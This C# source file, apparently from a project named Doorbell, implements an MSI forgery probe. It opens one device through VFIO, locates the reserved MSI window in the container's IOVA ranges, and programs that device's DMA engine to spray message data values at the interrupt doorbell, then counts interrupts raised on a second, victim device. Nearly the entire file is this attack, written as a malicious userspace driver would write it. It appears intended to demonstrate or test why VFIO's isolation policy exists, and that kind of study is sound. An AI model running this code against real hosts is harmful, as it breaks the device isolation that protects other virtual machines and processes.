using System.Buffers.Binary;
using System.Runtime.InteropServices;
using Doorbell.Host.Os;
using Doorbell.Host.Vfio;
using Doorbell.Host.Vfio.Abi;

// The attack behind VFIO's isolation policy, written as a malicious userspace driver would write it, only against
// the VFIO ABI: it owns device A (the multi-queue DMA device), finds the MSI window as the hole in the container's
// IOVA ranges, and programs A's DMA engine to write a spray of message data values to the doorbell address in that
// window. A second process-visible device B has MSI-X on eventfds. Whether any of B's eventfds fires is what the
// interrupt controller decides: the ITS translates with A's DeviceID, GICv2m only sees the data.
// Known limits: both devices are opened by one process here (separate containers), which changes nothing at the
// hardware level.
namespace Doorbell.Examples;

/// <summary>What the spray raised: how many of A's and B's vectors fired.</summary>
public sealed record MsiForgeryResult(int SetIommuA, int SetIommuB, ulong DoorbellIova, int ValuesSprayed, int VictimVectorsRaised, int ForgerVectorsRaised)
{
    public bool VictimReached => VictimVectorsRaised > 0;
}

public sealed class MsiForgeryProbe(VfioProcess process, (int Group, string Name) forger, (int Group, string Name) victim)
{
    const ulong QBase = 0x100, QSqBase = 0x00, QCqBase = 0x08, QSize = 0x10, QCtrl = 0x14, QSqTail = 0x18, RegCtrl = 0x008;
    const ulong Iova = 0x10_0000;
    readonly VfioProcess _p = process;

    static byte[] Bytes<T>(T v) where T : unmanaged
    {
        var b = new byte[UserArg.SizeOf<T>()];
        MemoryMarshal.Write(b, in v);
        return b;
    }

    (int Container, int Group, int Device, int SetIommu) Open(int group, string name)
    {
        var c = _p.OpenContainer();
        var g = _p.OpenGroup(group);
        var fd = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(fd, c);
        _p.Ioctl(g, VfioIoctl.GroupSetContainer, fd);
        var r = _p.Ioctl(c, VfioIoctl.SetIommu, VfioExtension.Type1v2Iommu);
        var d = r == 0 ? _p.Ioctl(g, VfioIoctl.GroupGetDeviceFd, System.Text.Encoding.ASCII.GetBytes(name + "\0")) : -1;
        return (c, g, d, r);
    }

    EventFd[] Msix(int device, int count) =>
        VfioUserIrqs.Trigger(_p, device, VfioPciIndex.IrqMsix, count, out _) ?? [];

    void Bar(int device, ulong reg, uint v)
    {
        Span<byte> b = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(b, v);
        _p.Pwrite(device, b, VfioPciIndex.IndexToOffset(VfioPciIndex.Bar0) + reg);
    }

    /// <summary>The first gap in the container's IOVA ranges (the reserved MSI window), or 0.</summary>
    ulong MsiWindow(int container)
    {
        var info = new byte[256];
        MemoryMarshal.Write(info, new VfioIommuType1Info { Argsz = (uint)info.Length });
        if (_p.Ioctl(container, VfioIoctl.IommuGetInfo, info) < 0) return 0;
        for (var off = (int)MemoryMarshal.Read<VfioIommuType1Info>(info).CapOffset; off != 0 && off + 8 <= info.Length;)
        {
            var h = MemoryMarshal.Read<VfioInfoCapHeader>(info.AsSpan(off));
            if (h.Id == 1 && MemoryMarshal.Read<VfioIommuType1InfoCapIovaRange>(info.AsSpan(off)).NrIovas >= 2)
                return MemoryMarshal.Read<VfioIovaRange>(info.AsSpan(off + 16)).End + 1;
            off = (int)h.Next;
        }
        return 0;
    }

    /// <summary>Sprays data values <paramref name="first"/>..first+count-1 to the doorbell (window base + 0x40:
    /// GITS_TRANSLATER and MSI_SETSPI_NS both sit at offset 0x40 of their 4 KiB page).</summary>
    public MsiForgeryResult Run(uint first, int count, int vectors = 4)
    {
        var a = Open(forger.Group, forger.Name);
        var b = Open(victim.Group, victim.Name);
        if (a.Device < 0 || b.Device < 0) return new MsiForgeryResult(a.SetIommu, b.SetIommu, 0, 0, 0, 0);
        var efdA = Msix(a.Device, vectors);
        var efdB = Msix(b.Device, vectors);
        try
        {
            var doorbell = MsiWindow(a.Container) + 0x40;
            var va = _p.Memory.MapAnonymous(0x4000);
            _p.Ioctl(a.Container, VfioIoctl.IommuMapDma, Bytes(new VfioIommuType1DmaMap
            { Argsz = 32, Flags = VfioDmaFlags.MapRead | VfioDmaFlags.MapWrite, Vaddr = va, Iova = Iova, Size = 0x4000 }));
            var cfg = new byte[2];
            var cfgOff = VfioPciIndex.IndexToOffset(VfioPciIndex.Config) + 4;
            _p.Pread(a.Device, cfg, cfgOff);
            cfg[0] |= 0x6;
            _p.Pwrite(a.Device, cfg, cfgOff);
            Bar(a.Device, RegCtrl, 1);
            Bar(a.Device, QBase + QSqBase, (uint)Iova); Bar(a.Device, QBase + QSqBase + 4, 0);
            Bar(a.Device, QBase + QCqBase, (uint)(Iova + 0x1000)); Bar(a.Device, QBase + QCqBase + 4, 0);
            Bar(a.Device, QBase + QSize, 8);
            Bar(a.Device, QBase + QCtrl, 1); // queue on, no completion interrupt: only forged writes may raise anything
            var desc = new byte[32];
            var word = new byte[4];
            for (var i = 0; i < count; i++)
            {
                var slot = (uint)(i & 7);
                BinaryPrimitives.WriteUInt32LittleEndian(word, first + (uint)i);
                _p.Memory.Write(va + 0x2000 + slot * 4, word);
                BinaryPrimitives.WriteUInt64LittleEndian(desc, Iova + 0x2000 + slot * 4);
                BinaryPrimitives.WriteUInt64LittleEndian(desc.AsSpan(8), doorbell);
                BinaryPrimitives.WriteUInt32LittleEndian(desc.AsSpan(16), 4);
                BinaryPrimitives.WriteUInt64LittleEndian(desc.AsSpan(24), (ulong)i);
                _p.Memory.Write(va + slot * 32, desc);
                Bar(a.Device, QBase + QSqTail, (slot + 1) & 7);
            }
            var victimRaised = efdB.Count(e => e.TryRead(out _));
            var forgerRaised = efdA.Count(e => e.TryRead(out _));
            return new MsiForgeryResult(a.SetIommu, b.SetIommu, doorbell, count, victimRaised, forgerRaised);
        }
        finally
        {
            foreach (var e in efdA) e.Dispose();
            foreach (var e in efdB) e.Dispose();
            foreach (var fd in new[] { a.Device, a.Group, a.Container, b.Device, b.Group, b.Container }) _p.Close(fd);
        }
    }
}
